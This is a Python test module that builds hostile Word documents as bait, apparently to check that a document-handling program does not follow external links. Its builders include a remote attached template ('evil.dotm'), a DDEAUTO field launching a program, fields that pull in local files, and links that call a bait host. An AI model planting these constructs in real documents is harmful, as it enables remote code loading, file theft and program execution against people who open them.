"""Word documents whose relationships, fields and objects lead outside."""

from collections.abc import Callable, Mapping
from pathlib import Path

from tests import documents
from tests.hostile.bait import Bait

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
_MAIN = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def relationships(*external: tuple[str, str, str]) -> bytes:
    """A part of relationships to the outside: id, type (its last word or whole), target."""
    made = "".join(
        f'<Relationship Id="{name}" Type="{kind if ":" in kind else f"{OFFICE}/{kind}"}" Target="{target}" '
        'TargetMode="External"/>'
        for name, kind, target in external
    )
    return f'<?xml version="1.0"?><Relationships xmlns="{PACKAGE}">{made}</Relationships>'.encode()


def field(instruction: str, shown: str = "old") -> str:
    """A field that is marked as out of date."""
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin" w:dirty="true"/></w:r>'
        f'<w:r><w:instrText xml:space="preserve"> {instruction} </w:instrText></w:r>'
        f'<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>{shown}</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def linked_pictures(folder: Path, bait: Bait) -> Path:
    body = "".join(documents.linked_picture(f"rId9{number}") for number in range(len(bait.targets)))
    links = {f"rId9{number}": target for number, target in enumerate(bait.targets)}
    return documents.docx(folder / "pictures.docx", body, links=links)


def attached_template(folder: Path, bait: Bait) -> Path:
    settings = f'<w:settings xmlns:w="{_MAIN}" xmlns:r="{OFFICE}"><w:attachedTemplate r:id="rId1"/></w:settings>'
    parts = {
        "word/settings.xml": settings.encode(),
        "word/_rels/settings.xml.rels": relationships(("rId1", "attachedTemplate", f"{bait.address}/evil.dotm")),
        "word/_rels/document.xml.rels": (
            f'<Relationships xmlns="{PACKAGE}"><Relationship Id="rId1" Type="{OFFICE}/settings" '
            'Target="settings.xml"/></Relationships>'
        ).encode(),
    }
    return documents.docx(folder / "template.docx", documents.paragraph("Words"), parts)


def linked_objects(folder: Path, bait: Bait) -> Path:
    shown = (
        '<w:p><w:r><w:object><v:shape xmlns:v="urn:schemas-microsoft-com:vml" id="s{0}" style="width:9pt;height:9pt"/>'
        '<o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Link" ProgID="Word.Document.12" '
        f'ShapeID="s{{0}}" DrawAspect="Content" xmlns:r="{OFFICE}" r:id="rId9{{0}}" UpdateMode="Always"/>'
        "</w:object></w:r></w:p>"
    )
    body = "".join(shown.format(number) for number in range(len(bait.targets)))
    links = [(f"rId9{number}", "oleObject", target) for number, target in enumerate(bait.targets)]
    parts = {"word/_rels/document.xml.rels": relationships(*links)}
    return documents.docx(folder / "objects.docx", body, parts)


def included(folder: Path, bait: Bait) -> Path:
    """Fields that take in text and pictures, or start programs."""
    body = "".join(
        field(instruction)
        for instruction in (
            f'INCLUDETEXT "{bait.path}"',
            f'INCLUDETEXT "{bait.file}"',
            f'INCLUDETEXT "{bait.address}/text.docx"',
            f'INCLUDEPICTURE "{bait.address}/picture.png" \\d',
            f'INCLUDEPICTURE "{bait.file}" \\d',
            f'LINK Word.Document "{bait.path}" "" \\a \\t',
            f'DDEAUTO soffice "{bait.path}" "a"',
            f'DATABASE \\d "{bait.path}" \\s "a"',
        )
    )
    return documents.docx(folder / "fields.docx", body)


def other_documents(folder: Path, bait: Bait) -> Path:
    """Whole documents that are to be put in: alternative chunks and parts of a master document."""
    body = "".join(
        f'<w:altChunk xmlns:r="{OFFICE}" r:id="rId8{number}"/>'
        f'<w:p><w:subDoc xmlns:r="{OFFICE}" r:id="rId9{number}"/></w:p>'
        for number in range(len(bait.targets))
    )
    links = [
        (f"rId{digit}{number}", kind, target)
        for number, target in enumerate(bait.targets)
        for digit, kind in ((8, "aFChunk"), (9, "subDocument"))
    ]
    return documents.docx(folder / "chunks.docx", body, {"word/_rels/document.xml.rels": relationships(*links)})


def online_video(folder: Path, bait: Bait) -> Path:
    """A film on a website, with the page that would show it."""
    extension = (
        '<a:extLst><a:ext uri="{C809E66F-F1BF-436E-b5F7-EEA9579F0CBA}"><wp15:webVideoPr '
        'xmlns:wp15="http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing" h="9" w="9" '
        f'embeddedHtml="&lt;iframe src=&quot;{bait.address}/film&quot;&gt;&lt;/iframe&gt;"/></a:ext></a:extLst>'
    )
    drawing = documents.linked_picture("rId9").replace('r:link="rId9"/>', f'r:link="rId9">{extension}</a:blip>')
    return documents.docx(folder / "film.docx", drawing, links={"rId9": f"{bait.address}/still.png"})


def vector_picture(folder: Path, bait: Bait) -> Path:
    """A picture inside the document that itself is made of pictures elsewhere."""
    href = 'xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href'
    svg = (
        '<svg xmlns="http://www.w3.org/2000/svg" width="99" height="99">'
        f'<style>@import url("{bait.address}/style.css");</style>'
        + "".join(
            f'<image {href}="{target}" width="9" height="9"/><use {href}="{target}#a"/>' for target in bait.targets
        )
        + "</svg>"
    )
    body = documents.linked_picture("rId9").replace("r:link", "r:embed")
    parts = {
        "word/media/a.svg": svg.encode(),
        "word/_rels/document.xml.rels": (
            f'<Relationships xmlns="{PACKAGE}"><Relationship Id="rId9" Type="{OFFICE}/image" '
            'Target="media/a.svg"/></Relationships>'
        ).encode(),
        "docProps/note.txt": b"",
    }
    return documents.docx(folder / "vector.docx", body, parts)


WORD: Mapping[str, Callable[[Path, Bait], Path]] = {
    "word: linked pictures": linked_pictures,
    "word: attached template": attached_template,
    "word: linked objects": linked_objects,
    "word: fields": included,
    "word: chunks and parts": other_documents,
    "word: film": online_video,
    "word: vector picture": vector_picture,
}
